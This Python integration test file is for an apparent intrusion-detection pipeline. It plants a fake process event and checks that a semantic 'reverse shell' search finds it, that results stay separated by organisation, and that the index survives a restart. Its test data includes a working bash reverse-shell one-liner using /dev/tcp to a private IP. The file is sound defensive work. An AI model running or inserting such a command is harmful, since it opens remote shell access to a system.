"""sinks/indexer.py end to end: broker → worker → sink (chdb) → behaviours index, real parts."""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

import pytest

from ruleless.kafka import producer
from ruleless.settings import Settings
from schemas.events import RawEvent, encode
from sinks.query import query_http
from streams.behaviours import BehaviourHit, BehaviourIndex, behaviour_id
from tests.factories import fleet_stream
from tests.processes import QUERY_TOKEN, RULELESS, ruleless_process

pytestmark = pytest.mark.integration

REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"


def planted(events: list[RawEvent], i: int) -> RawEvent:
    e = events[-1]
    return RawEvent(ts=e.ts + 1 + i, org_id=e.org_id, workload=e.workload, host=e.host, event_id=f"planted-{i}",
                    pid=4242 + i, ppid=1, process_name="bash", parent_process="php-fpm", cmdline=REVERSE_SHELL)  # fmt: skip


def produce(settings: Settings, events: list[RawEvent]) -> None:
    prod = producer(settings.kafka)
    for e in events:
        prod.produce(settings.topics.raw, key=e.shard_key.encode(), value=encode(e))
    assert prod.flush(60) == 0


def wait_for(find, timeout: float = 150.0):  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = find()
        if found:
            return found
        time.sleep(1.0)
    raise AssertionError("timed out")


def test_a_planted_reverse_shell_is_found_by_intent_and_the_index_survives_a_restart(topics: Settings, tmp_path: Path) -> None:
    settings = topics.model_copy(update={"sink": topics.sink.model_copy(update={"behaviours_interval_s": 1.0})})
    events = fleet_stream(pairs=4, per_pair=300, seed=5)
    org = events[-1].org_id
    shell = planted(events, 0)
    url = f"http://{settings.sink.query_host}:{settings.sink.query_port}"
    table = f"{settings.clickhouse.database}.{settings.clickhouse.table}"
    index = BehaviourIndex(settings.lancedb.uri)

    def top(orgs: set[str] | None) -> list[BehaviourHit]:
        try:
            return index.search("reverse shell", orgs, limit=3)
        except (ValueError, OSError):  # (table being created)
            return []

    with ruleless_process(settings, "worker", log=tmp_path / "worker.log"):
        with ruleless_process(settings, "sink", log=tmp_path / "sink.log"):
            produce(settings, [*events, shell])
            hits = wait_for(lambda: [h for h in top({org}) if h.exemplar == REVERSE_SHELL])
            assert top({org})[0].exemplar == REVERSE_SHELL, top({org})
            assert hits[0].count == 1 and hits[0].org_id == org and hits[0].workload == shell.workload
            stored = query_http(url, f"SELECT behaviour_id FROM {table} WHERE event_id = 'planted-0'", QUERY_TOKEN)
            assert stored == [{"behaviour_id": behaviour_id(shell)}] == [{"behaviour_id": hits[0].behaviour_id}]
            ids = query_http(url, f"SELECT uniqExact(behaviour_id) AS n, countIf(behaviour_id = '') AS empty FROM {table}", QUERY_TOKEN)
            assert int(ids[0]["empty"]) == 0
            wait_for(lambda: index.count() >= int(ids[0]["n"]))
            # `ruleless search` reads the running system's index (no service involved).
            cli = subprocess.run([RULELESS, "search", "reverse shell", "--json", "--lancedb", settings.lancedb.uri,
                                  "--org", org, "-n", "3"], capture_output=True, timeout=120)  # fmt: skip
            assert cli.returncode == 0, cli.stderr
            assert json.loads(cli.stdout.splitlines()[0])["cmdline"] == REVERSE_SHELL
            # Another org's search never sees it.
            assert all(h.org_id != org for h in index.search("reverse shell", {"org-nobody", "x"}))
        # Restarted, the sink's indexer goes on from its watermark: the same behaviour seen
        # again is counted once more, not re-added from the start.
        with ruleless_process(settings, "sink", log=tmp_path / "sink2.log"):
            produce(settings, [planted(events, 1)])
            again = wait_for(lambda: [h for h in top({org}) if h.exemplar == REVERSE_SHELL and h.count >= 2])
            time.sleep(3)
            assert [h.count for h in top({org}) if h.exemplar == REVERSE_SHELL] == [2], again
    assert "behaviour index: " in (tmp_path / "sink.log").read_text()


def test_the_indexer_embeds_a_share_of_the_time_and_stops_at_once() -> None:
    import threading

    import numpy as np

    from sinks.indexer import Stopped, Throttled

    def slow(texts):  # type: ignore[no-untyped-def]
        time.sleep(0.02)
        return np.zeros((len(texts), 384), np.float32)

    started = time.perf_counter()
    assert Throttled(slow, 0.5)(["x"] * 64).shape == (64, 384)  # two steps of 32
    assert time.perf_counter() - started >= 0.075  # each rested as long as it worked
    stop = threading.Event()
    stop.set()
    started = time.perf_counter()
    with pytest.raises(Stopped):
        Throttled(slow, 0.01, stop)(["x"] * 1000)
    assert time.perf_counter() - started < 0.5
